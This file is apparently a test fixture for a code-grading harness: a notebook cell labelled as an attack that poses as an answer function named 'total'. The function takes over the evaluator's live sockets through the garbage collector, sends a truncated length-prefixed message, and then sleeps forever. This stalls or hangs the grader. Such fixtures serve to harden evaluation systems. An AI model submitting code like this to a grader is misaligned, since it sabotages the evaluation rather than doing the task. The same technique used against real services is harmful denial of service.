# ---
# jupyter:
#   attack:
#     tries: Sends half a message and then sleeps.
# ---

# %% answer="total"
def total(x):
    import gc
    import socket
    import struct
    import time

    for line in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:
        line.sendall(struct.pack("<Q", 1000) + b"x" * 500)
    while True:
        time.sleep(600)
